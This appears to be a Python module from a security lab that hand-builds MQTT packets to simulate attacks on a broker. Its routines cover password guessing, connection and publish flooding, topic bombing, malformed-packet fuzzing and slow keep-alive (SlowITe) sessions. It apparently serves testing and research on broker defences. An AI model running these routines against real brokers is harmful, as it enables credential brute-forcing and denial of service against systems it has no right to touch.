"""What attackers say to a broker: guesses, far too much, what the protocol forbids, or nothing at all.

The packets are written by hand, since no client library sends what is wrong on purpose.
"""

from __future__ import annotations

import contextlib
import socket
import struct

from lab.bots.connections import hold_open
from lab.bots.pace import Told, all_at_once
from lab.plan import PASSWORD, USER


def _text(value: str) -> bytes:
    return struct.pack(">H", len(value.encode())) + value.encode()


def connect_packet(*, client: str, user: str = "", password: str = "", keepalive_s: int = 60) -> bytes:
    """Return a CONNECT with a clean session (MQTT 3.1.1)."""
    flags = 0x02 | (0xC0 if user else 0)
    body = _text("MQTT") + bytes([4, flags]) + struct.pack(">H", keepalive_s) + _text(client)
    body += _text(user) + _text(password) if user else b""
    return bytes([0x10, len(body)]) + body


def mqtt_guess(told: Told) -> None:
    """Try a password per connection: CONNECT, CONNACK, close."""

    def guess() -> None:
        user, _, password = told.rng.choice(told.words).partition(":")
        with told.connect() as line:
            line.sendall(connect_packet(client=f"c{told.rng.randrange(10**6)}", user=user, password=password))
            line.recv(16)

    told.in_parallel(guess)


def mqtt_connects(told: Told) -> None:
    """Open connections to a broker and leave them open for a while."""
    held: list[socket.socket] = []

    def visit() -> None:
        line = told.connect()
        line.sendall(connect_packet(client=f"c{told.rng.randrange(10**9)}"))
        line.recv(16)
        held.append(line)
        if len(held) > 100:
            held.pop(0).close()

    told.in_parallel(visit)


def length_of(count: int) -> bytes:
    """Return MQTT's remaining length: seven bits a byte, the lowest first.

    >>> list(length_of(321))
    [193, 2]
    """
    out = bytearray()
    while True:
        count, low = divmod(count, 128)
        out.append(low | (0x80 if count else 0))
        if not count:
            return bytes(out)


def _message_of(first: int, rest: bytes) -> bytes:
    return bytes([first]) + length_of(len(rest)) + rest


def _message(topic: str, body: bytes, *, first: int = 0x30) -> bytes:
    return _message_of(first, _text(topic) + body)


def _session(told: Told) -> socket.socket:
    """Connect and log in to the broker; the caller closes."""
    line = told.connect()
    line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)  # or the kernel joins messages into few packets
    line.sendall(connect_packet(client=f"c{told.rng.randrange(10**9)}", user=USER, password=PASSWORD))
    line.recv(16)
    return line


def mqtt_publishes(told: Told) -> None:
    """Publish at a high rate over few connections, to a topic nobody hears."""
    message = _message("x", bytes(min(told.size_bytes, 16_000)))

    def work() -> None:
        with contextlib.suppress(OSError), _session(told) as line:
            while told.pace.turn():
                line.sendall(message)

    all_at_once(work, told.parallel)


def topic_bombing(told: Told) -> None:
    """Subscribe to topics and leave retained messages on others, each deep, each used once."""

    def work() -> None:
        with contextlib.suppress(OSError), _session(told) as line:
            line.setblocking(False)
            number = 0
            while told.pace.turn():
                number += 1
                topic = "/".join(f"{told.rng.getrandbits(20):x}" for _ in range(told.rng.randint(3, 24)))
                if told.rng.random() < 0.5:
                    wanted = _text(topic + told.rng.choice(["", "/#", "/+/x"]))
                    line.send(_message_of(0x82, struct.pack(">H", number & 0x7FFF | 1) + wanted + b"\0"))
                else:
                    line.send(_message(topic, bytes(told.size_bytes), first=0x31))
                with contextlib.suppress(BlockingIOError):
                    line.recv(65536)

    all_at_once(work, told.parallel)


def _wrong(told: Told) -> bytes:
    """Return one packet with one thing wrong (MQTT 3.1.1, sections 1.5.3, 2.2, 3.1, 3.3, 3.8)."""
    connect = connect_packet(client="c")
    return told.rng.choice(
        [
            b"\x10" + b"\xff" * 4 + b"\x7f",  # a remaining length of five bytes
            connect[:2] + b"\x00\x04MQIX" + connect[8:],  # another protocol's name
            connect[:8] + b"\x09" + connect[9:],  # a version that does not exist
            connect[:9] + b"\x03" + connect[10:],  # the reserved flag set
            connect[:1] + b"\x02" + connect[2:4],  # shorter than it must be
            connect + connect,  # CONNECT twice
            connect + b"\x36\x05\x00\x01a\x00\x01",  # QoS 3
            connect + b"\x30\x05\x00\x03a/#",  # a wildcard in the topic of a message
            connect + b"\x30\x04\x00\x02\xc3\x28",  # a topic that is no UTF-8
            connect + b"\x80\x06\x00\x01\x00\x01a\x00",  # SUBSCRIBE with flags 0
            connect + b"\xf0\x00",  # a reserved packet type
            connect + b"\x62\x02\x7f\xff",  # a release of a message that was never sent
            told.rng.randbytes(told.rng.randint(2, 300)),
        ]
    )


def mqtt_fuzz(told: Told) -> None:
    """Send one malformed packet per connection and hear what the broker says."""

    def visit() -> None:
        with told.connect() as line:
            line.sendall(_wrong(told))
            line.settimeout(0.5)
            line.recv(64)

    told.in_parallel(visit)


def silent_mqtt(told: Told) -> None:
    """Open sessions with the longest keep-alive there is and say nothing more until `hold_s` are over."""
    opening = connect_packet(client="", keepalive_s=65535)
    hold_open(told, opening=opening, crumb=b"")


def mqtt_malformed(told: Told) -> None:
    """Send packets to a broker that MQTT does not allow."""

    def visit() -> None:
        with told.connect() as line:
            if told.rng.random() < 0.6:
                line.sendall(connect_packet(client=f"c{told.rng.randrange(10**6)}"))
                line.recv(16)
            for _ in range(told.rng.randint(1, 6)):
                line.sendall(told.rng.randbytes(told.rng.randint(2, 200)))
            line.recv(64)

    told.in_parallel(visit)


def slow_mqtt(told: Told) -> None:
    """Keep MQTT sessions open that say nothing (SlowITe)."""
    hold_open(told, opening=connect_packet(client=""), crumb=b"\xc0\x00")
